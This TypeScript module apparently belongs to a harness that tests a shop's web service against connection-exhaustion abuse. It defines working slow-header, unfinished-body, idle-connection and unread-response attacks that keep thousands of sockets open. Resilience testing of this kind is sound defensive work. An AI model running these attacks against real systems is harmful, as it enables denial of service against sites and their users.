import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { atNode, type Attack, type Attacker, fromRange } from '../attack.ts'

/** Between two looks for connections that the shop has closed, ms. */
const pollMs = 100

/**
 * Keeps so many connections open, each begun anew when it is closed.
 * @param begin what is sent at first
 * @param every what is sent to each once a second
 */
async function holdConnections(
  { target, tally }: Attacker,
  count: number,
  begin: (socket: Socket, number: number) => void,
  every?: string,
): Promise<void> {
  const open = new Set<Socket>()
  if (every !== undefined) setInterval(() => open.forEach((socket) => socket.write(every)), 1000)
  for (;;) {
    for (let number = open.size; number < count; number += 1) {
      const { host, port } = target.entry
      const socket = connect({ host, port, localAddress: target.address })
      open.add(socket)
      tally('begun')
      socket.on('error', () => undefined)
      socket.once('connect', () => begin(socket, number))
      socket.once('close', () => {
        open.delete(socket)
        tally('closed by the shop')
      })
    }
    await sleep(pollMs)
  }
}

const head = ({ target, forwarded }: Attacker, method: string, path: string, ...lines: string[]): string => {
  const headers = { Host: new URL(target.site).host, 'x-bc-region': 'us', ...forwarded() }
  const own = Object.entries(headers).map(([name, value]) => `${name}: ${value}`)
  return [`${method} ${path} HTTP/1.1`, ...own, ...lines, '', ''].join('\r\n')
}

/** Requests that are begun and not finished; a proxy says whose it is. */
const unfinished: readonly Attack[] = [
  {
    name: '1,000 unfinished bodies',
    run: (attacker) =>
      holdConnections(attacker, 1000, (socket) => {
        const type = 'content-type: application/json'
        socket.write(`${head(attacker, 'POST', '/api/cart/create', type, 'content-length: 9000')}{"items":`)
        socket.resume()
      }),
  },
  {
    name: '1,000 slow heads',
    run: (attacker) =>
      holdConnections(
        attacker,
        1000,
        (socket) => {
          socket.write(head(attacker, 'GET', '/api/session').slice(0, -2))
          socket.resume()
        },
        'x-a: b\r\n',
      ),
  },
]
const ways: readonly Attack[] = [
  ...unfinished,
  {
    name: '3,600 idle connections',
    run: (attacker) =>
      holdConnections(attacker, 3600, (socket, number) => {
        // Half have asked for something before.
        if (number % 2 === 0) socket.write(head(attacker, 'GET', '/healthz'))
        socket.resume()
      }),
  },
  {
    name: '500 answers that are not read',
    run: (attacker) =>
      holdConnections(attacker, 500, (socket) => {
        socket.pause()
        for (let asked = 0; asked < 20; asked += 1) socket.write(head(attacker, 'GET', '/en-us/stores'))
      }),
  },
]

/**
 * Attacks that keep connections and places for requests (row 6 of the abuses), through nginx, without, and from a range
 * as far as a proxy's connections have clients: idle ones are named by no request, and a proxy reads what it is sent.
 */
export const connectionAttacks: readonly Attack[] = [...ways, ...ways.map(atNode), ...unfinished.map(fromRange)]
